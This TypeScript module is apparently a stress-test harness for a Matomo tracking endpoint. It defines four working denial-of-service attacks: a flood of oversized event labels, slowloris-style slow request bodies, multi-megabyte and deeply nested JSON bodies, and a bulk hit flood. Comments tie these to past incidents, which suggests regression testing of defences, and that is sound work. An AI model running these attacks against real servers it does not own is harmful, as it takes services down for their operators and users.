import { connect, type Socket } from 'node:net';
import { bulkBody } from '../../hits.ts';
import {
  type Answers,
  type Attack,
  FORM_TYPE,
  JSON_TYPE,
  noteAnswer,
  post,
  repeat,
} from '../attack.ts';
import { TARGET } from '../scene.ts';

const LABEL_LENGTH = 1_500;
const LABELS_A_REQUEST = 100;

/** 2,600 new labels a second, each of 1,500 characters: the flood that was once 149 MB of report. */
export const labels: Attack = async ({ url, until }) => {
  const answers: Answers = new Map();
  let at = 0;
  await repeat(until, { atOnce: 2, everyMs: 77 }, async () => {
    const requests = Array.from({ length: LABELS_A_REQUEST }, () => {
      at += 1;
      return {
        idsite: TARGET,
        rec: '1',
        e_c: 'Top Topics',
        e_a: `${at} `.padEnd(LABEL_LENGTH, 'x'),
      };
    });
    const body = JSON.stringify({ requests });
    await post(answers, `${url}/matomo.php`, { 'content-type': JSON_TYPE }, body);
  });
  return answers;
};

/** A request whose body comes a byte every five seconds, or never. */
const drip = (url: string, until: number, answers: Answers): Promise<void> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(url);
    const socket: Socket = connect(Number(port), hostname);
    let status: number | 'none' = 'none';
    const byte = setInterval(() => socket.write('x'), 5_000);
    const end = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()));
    socket.on('error', () => {});
    socket.on('data', (chunk) => {
      status = Number(/^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? 0);
    });
    socket.on('close', () => {
      clearInterval(byte);
      clearTimeout(end);
      noteAnswer(answers, status);
      resolve();
    });
    socket.write(
      `POST /matomo.php HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n`,
    );
  });

export const slowBodies: Attack = async ({ url, until }) => {
  const answers: Answers = new Map();
  await repeat(until, { atOnce: 200, everyMs: 1_000 }, () => drip(url, until, answers));
  return answers;
};

const MILLION = 1_000_000;
/** The requests that once held everybody up for seconds. */
const hugeBodies = (): [string, Buffer][] => {
  const texts: [string, string][] = [
    [FORM_TYPE, `idsite=${TARGET}&rec=1&e_c=a&e_a=${'+'.repeat(8 * MILLION - 100)}`],
    [FORM_TYPE, `idsite=${TARGET}&rec=1&urlref=https://${'a.'.repeat(4 * MILLION - 100)}`],
    [JSON_TYPE, '['.repeat(4 * MILLION)],
    [JSON_TYPE, `{"requests":${'['.repeat(4 * MILLION - 100)}`],
    [JSON_TYPE, `{"requests":["?${'&'.repeat(8 * MILLION - 100)}"]}`],
    [JSON_TYPE, `{"requests":[${'"",'.repeat(2.6 * MILLION)}""]}`],
  ];
  return texts.map(([type, text]) => [type, Buffer.from(text)]);
};

export const hugeHits: Attack = async ({ url, until }) => {
  const answers: Answers = new Map();
  const bodies = hugeBodies();
  await repeat(until, { atOnce: 2, everyMs: 500 }, (at) => {
    const [type, body] = bodies[at % bodies.length] ?? [JSON_TYPE, Buffer.alloc(0)];
    return post(answers, `${url}/matomo.php`, { 'content-type': type }, body);
  });
  return answers;
};

const FLOOD_BULK = 2_500;
const FLOOD_BODIES = 20;

/** 425,000 hits of one conference in six seconds, for as long as they are taken. */
export const flood: Attack = async ({ url, until }) => {
  const answers: Answers = new Map();
  const bodies = Array.from({ length: FLOOD_BODIES }, (_, at) =>
    bulkBody(TARGET, at * FLOOD_BULK, FLOOD_BULK),
  );
  await repeat(until, { atOnce: 8, everyMs: 280 }, (at) => {
    const body = bodies[at % FLOOD_BODIES] ?? '';
    return post(answers, `${url}/matomo.php`, { 'content-type': JSON_TYPE }, body);
  });
  return answers;
};
